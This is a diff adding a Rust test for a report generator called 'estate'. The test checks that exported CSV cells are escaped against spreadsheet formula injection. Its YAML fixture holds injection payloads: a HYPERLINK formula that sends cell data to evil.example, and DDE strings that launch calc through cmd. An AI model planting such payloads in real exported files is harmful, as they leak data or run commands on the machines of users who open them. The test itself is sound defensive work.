@@ -278,3 +278,82 @@ fn a_cel_expression_of_2000_terms_is_a_located_error_not_a_stack_overflow() {
         r.stderr
     );
 }
+
+/// Every cell of every CSV file under `dir`: (file, cell).
+fn csv_cells(dir: &Path) -> Vec<(String, String)> {
+    let mut cells = Vec::new();
+    for e in walkdir::WalkDir::new(dir) {
+        let e = e.unwrap();
+        if e.path().extension().is_some_and(|x| x == "csv") {
+            let mut r = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_path(e.path())
+                .unwrap();
+            for rec in r.records() {
+                for c in rec.unwrap().iter() {
+                    cells.push((e.path().display().to_string(), c.to_string()));
+                }
+            }
+        }
+    }
+    cells
+}
+
+#[test]
+fn report_csv_cells_never_start_a_formula_and_numbers_stay_numbers() {
+    let dir = tempfile::tempdir().unwrap();
+    let inventory = dir.path().join("inventory");
+    std::fs::create_dir_all(&inventory).unwrap();
+    std::fs::write(
+        inventory.join("systems.yaml"),
+        r#"apiVersion: estate/v1
+kind: System
+metadata:
+  name: crm
+  title: '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+spec:
+  owner: team:ops
+  domain: domain:core
+  supplier: supplier:acme
+---
+apiVersion: estate/v1
+kind: Team
+metadata:
+  name: ops
+  title: "+cmd|' /C calc'!A0"
+---
+apiVersion: estate/v1
+kind: Domain
+metadata:
+  name: core
+  title: "-2+3"
+---
+apiVersion: estate/v1
+kind: Supplier
+metadata:
+  name: acme
+  title: "@SUM(1+1)*cmd|' /C calc'!A0"
+spec: { category: software }
+"#,
+    )
+    .unwrap();
+    let out = dir.path().join("site");
+    let r = run(estate()
+        .current_dir(dir.path())
+        .args(["report", "--as-of", AS_OF, "--out"])
+        .arg(&out));
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let cells = csv_cells(&out);
+    assert!(!cells.is_empty());
+    let mut quoted = 0;
+    for (file, c) in &cells {
+        let live = c.starts_with(['=', '+', '@', '\t', '\r'])
+            || (c.starts_with('-') && c.parse::<f64>().is_err());
+        assert!(!live, "{file}: {c:?}");
+        quoted += usize::from(c.starts_with("'=") || c.starts_with("'@") || c.starts_with("'+"));
+    }
+    assert!(
+        quoted >= 3,
+        "the titles are in the CSV files, quoted: {quoted}"
+    );
+}
